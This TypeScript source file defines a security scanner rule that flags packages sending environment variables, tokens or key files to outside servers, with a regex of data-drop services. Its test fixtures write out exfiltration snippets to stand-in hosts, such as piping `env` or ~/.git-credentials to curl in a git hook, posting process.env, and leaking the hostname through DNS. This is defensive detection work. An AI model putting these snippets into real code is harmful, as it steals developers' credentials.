import { isNearby, isOwnComputer } from '../../ownComputer.ts';
import {
  callsNamed,
  callsOf,
  objectOf,
  Op,
  opOf,
  pattern,
  receiverOf,
  resolve,
  placeAt,
  show,
  type ScriptFacts,
} from '../../facts/javascript/query.ts';
import type { Hit } from '../../rule.ts';
import { defineRule } from '../../rule.ts';
import { checkScripts } from '../code/checkScripts.ts';
import { requestsOf } from '../code/requestsOf.ts';
import { backwardSlice } from '../../program/backwardSlice.ts';
import { apisIn } from '../../program/madeOf.ts';
import { say } from '../../../texts/say.ts';
import { installScripts } from './installScripts.ts';
import { commandHits } from './commandHits.ts';
import { otherUseHits } from './otherUseHits.ts';
import { takings, METADATA } from './packageTakings.ts';

const WHO = [
  'os.hostname()',
  'os.userInfo()',
  'os.homedir()',
  'os.networkInterfaces()',
  'dns.getServers()',
  'process.cwd()',
];

/** Where data is left that nobody asks for. */
const DROPS =
  /discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|webhook\.site|pipedream\.net|\.ngrok\b|\.oast\.|burpcollaborator|interact\.sh|requestbin|hookbin/;

const inScripts = checkScripts(function* ({ script, file, hit }) {
  const taken = takings(script);
  const streamed = writtenTo(script);
  for (const request of requestsOf(script)) {
    if (isOwnComputer(request.to) || METADATA.test(request.to)) continue;
    const sent = [...request.sent.filter((value) => value !== request.address), ...(streamed.get(request.value) ?? [])];
    const from = new Set(sent.flatMap((value) => [...backwardSlice(script, value)]));
    const source = [...taken].find(([value]) => from.has(value));
    const paths = new Set(sent.flatMap((value) => [...apisIn(script, value)]));
    if (source !== undefined) yield hit(request.value, { message: say('sends-to-server', source[1]) });
    else if (sendsEnvironment(script, sent)) yield hit(request.value, { message: say('whole-environment-sent') });
    else if (WHO.filter((path) => paths.has(path)).length >= 2)
      yield hit(request.value, {
        severity: 'high',
        confidence: 'medium',
        message: say('user-and-machine-sent'),
      });
    else if (taken.size > 0 && DROPS.test(request.to))
      yield hit(request.value, {
        confidence: 'medium',
        message: say('reads-keys-leaves-data'),
      });
  }
  yield* lookups(script, file.path);
});

export const packageStealsData = defineRule({
  id: 'package-steals-data',
  title: 'Credential theft: sends keys of whoever runs it',
  severity: 'critical',
  confidence: 'high',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  references: ['https://attack.mitre.org/techniques/T1552/', 'https://github.com/ossf/malicious-packages'],
  why: 'Compromised packages read the environment, tokens and key files of developers and build machines. The attacker then publishes more packages with them.',
  remedy: 'Do not install or run it. If it ran, rotate every key the machine could read.',
  *check(facts) {
    const installs = facts.whole(installScripts);
    for (const hit of inScripts(facts))
      // Nobody asks a package for that while it is installed.
      yield hit.severity === 'high' && installs.has(hit.place.path) ? { ...hit, severity: 'critical' } : hit;
    yield* commandHits(facts, { 'sends-secrets': say('command-sends-keys') });
    yield* otherUseHits(facts, ['environment', 'keys'], ['sends'], ({ stuff, to }) =>
      isNearby(to)
        ? undefined
        : {
            message: stuff === 'keys' ? say('sends-to-server', say('key-files')) : say('whole-environment-sent'),
            ...(to === '' ? { confidence: 'medium' as const } : {}),
          },
    );
  },
  examples: {
    bad: [
      { files: { 'ext/extconf.rb': "require 'net/http'\nNet::HTTP.post(URI('https://a.dev/e'), ENV.to_h.to_json)\n" } },
      {
        files: {
          'build.rs':
            'fn main() {\n  let all: Vec<String> = env::vars().map(|(k, v)| format!("{}={}", k, v)).collect();\n  ureq::post("https://a.dev/c").send_string(&all.join("\\n"));\n}\n',
        },
      },
      {
        files: {
          'b.php':
            "<?php\n$data = file_get_contents(getcwd() . '/.env');\n$ch = curl_init('https://a.dev/x');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, ['e' => $data]);\n",
        },
      },
      { files: { '.envrc': 'env | curl -s -X POST --data-binary @- https://sync.dev/i\n' } },
      { files: { '.husky/post-checkout': 'cat ~/.git-credentials ~/.netrc | curl -d @- https://sync.dev/c\n' } },
      {
        files: {
          'index.js':
            "const { z } = require('zod');\nconst env = z.object({}).passthrough().parse(process.env);\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify(env) });\n",
        },
      },
      {
        files: {
          'index.js':
            "const schema = require('./schema');\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify(schema.parse(process.env)) });\n",
        },
      },
      {
        files: {
          'index.js':
            "const env = process.env;\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify({ env, a: 1 }) });\n",
        },
      },
      {
        files: {
          'index.js': "fetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify(process.env) });\n",
        },
      },
      {
        files: {
          'index.js':
            "const env = { ...process.env };\nfetch('https://collect.dev/e', { method: 'POST', headers: { a: env.HOME }, body: JSON.stringify(env) });\n",
        },
      },
      {
        files: {
          'index.js':
            "const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n",
        },
      },
      {
        files: {
          'index.js':
            "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n",
        },
      },
      {
        files: {
          'index.js':
            "const shot = require('screenshot-desktop');\nshot().then((image) => require('axios').post('https://collect.dev/s', { image: image.toString('base64') }));\n",
        },
      },
      { files: { 'index.js': "require('dns').lookup(require('os').hostname() + '.x.collect.dev', () => {});\n" } },
    ],
    good: [
      {
        files: {
          'a.go':
            'func a() {\n  cmd.Env = append(os.Environ(), "A=1")\n  http.Post("https://a.dev", "text/plain", body)\n}\n',
        },
      },
      {
        files: { 'a.sh': 'curl -H "Authorization: Bearer $(gh auth token)" https://api.github.com/user\nenv | sort\n' },
      },
      {
        files: {
          'index.js':
            "const { z } = require('zod');\nconst schema = z.object({ GITHUB_TOKEN: z.string() });\nconst env = schema.parse(process.env);\nfetch('https://api.github.com/repos/a/b/contributors', { headers: { Authorization: `Bearer ${env.GITHUB_TOKEN}` } });\n",
        },
      },
      {
        files: {
          'index.js':
            "const shot = require('screenshot-desktop');\nshot({ filename: 'out.png' }).then(() => console.log('done'));\nfetch('https://api.dev/ping');\n",
        },
      },
      {
        files: {
          'index.mjs':
            "const env = { ...defaults, ...process.env };\nconst id = env.STORE_ID;\nfetch('https://oauth2.example.com/token', { method: 'POST', body: new URLSearchParams({ id, secret: env.STORE_SECRET }) });\n",
        },
      },
      {
        files: {
          'index.mjs':
            "const env = process.env;\nconst { TOKEN } = process.env;\nfetch('https://api.dev/v1', { method: 'POST', headers: { authorization: 'Bearer ' + TOKEN }, body: JSON.stringify({ ref: env.GITHUB_REF }) });\n",
        },
      },
      {
        files: {
          'index.js':
            "fetch(process.env.API_URL + '/v1', { method: 'POST', body: JSON.stringify({ a: 1, mode: process.env.NODE_ENV }) });\n",
        },
      },
      {
        files: {
          'index.js':
            "const fs = require('fs');\nconst t = fs.readFileSync('.npmrc', 'utf8').split('\\n');\nconsole.log(t.length);\nfetch('https://registry.dev/ping');\n",
        },
      },
      {
        files: {
          'index.js':
            "const os = require('os');\nfetch('https://status.dev/up', { method: 'POST', body: JSON.stringify({ host: os.hostname() }) });\n",
        },
      },
    ],
  },
});

/** What is written into requests after they were made: `https.request(…).end(data)`. */
function writtenTo(script: ScriptFacts): ReadonlyMap<number, readonly number[]> {
  const written = new Map<number, number[]>();
  const requests = new Set(callsOf(script, 'https.request', 'http.request').map(({ value }) => value));
  if (requests.size === 0) return written;
  for (const call of callsNamed(script, 'write', 'end').slice(0, 300)) {
    for (const made of backwardSlice(script, receiverOf(script, call)))
      if (requests.has(made)) written.set(made, [...(written.get(made) ?? []), call.args[0] ?? 0]);
  }
  return written;
}

/** `schema.parse(process.env)`, as programs look at their settings when they start. */
const CHECKED = /^[\w$.]{1,80}\.(?:parse|safeParse|validate|validateSync)\(process\.env\)$/;
const isEnvironment = (text: string): boolean => text === 'process.env' || CHECKED.test(text);

/** Whether a request carries the whole environment: `process.env` itself, not one variable of it. */
function sendsEnvironment(script: ScriptFacts, sent: readonly number[]): boolean {
  const whole = /\.\.\.process\.env\b(?!\s*[.[])|[:({,[]\s*process\.env\s*[,})\]]/;
  const names = new Set<string>();
  const texts: string[] = [];
  const seen = sent.flatMap((one) => [one, ...backwardSlice(script, one)]).slice(0, 400);
  for (const value of seen) {
    const text = show(script, value);
    if (whole.test(text) && !CHECKED.test(text) && !isReadInPart(script, value, seen)) return true;
    texts.push(text);
    // A variable that is the environment, unless only a part of it is read.
    if (/^[\w$]{1,60}$/.test(text) && isEnvironment(show(script, resolve(script, value)))) names.add(text);
  }
  return [...names].some((name) => !texts.some((text) => text.startsWith(`${name}.`) || text.startsWith(`${name}[`)));
}

/** `const env = { ...defaults, ...process.env }`: an object that has a name, of which only single members are used. */
function isReadInPart(script: ScriptFacts, value: number, seen: readonly number[]): boolean {
  if (opOf(script, value) !== Op.object) return false;
  const members = seen.filter((one) => opOf(script, one) === Op.member);
  const parts = new Set(members.map((one) => objectOf(script, one)));
  const named = seen.filter((one) => one !== value && resolve(script, one) === value);
  const read = members.filter((one) => resolve(script, objectOf(script, one)) === value);
  return read.length > 0 && named.every((one) => parts.has(one));
}

/** Data put into a name that is looked up. */
function* lookups(script: ScriptFacts, path: string): Generator<Hit> {
  for (const call of callsOf(
    script,
    'dns.lookup',
    'dns.resolve',
    'dns.resolve4',
    'dns.resolveTxt',
    'dns.promises.lookup',
    'dns.promises.resolve',
  )) {
    const from = apisIn(script, call.args[0] ?? 0);
    if (!/\*.*\.[\w-]+\.\w+$/.test(pattern(script, call.args[0] ?? 0))) continue;
    if ([...from].some((one) => /^(?:os\.(?:hostname|userInfo)\(\)|process\.env)/.test(one) || WHO.includes(one))) {
      yield {
        place: placeAt(script, path, call.pos),
        evidence: show(script, call.value),
        severity: 'high',
        confidence: 'medium',
        message: say('dns-exfiltration'),
      };
    }
  }
}
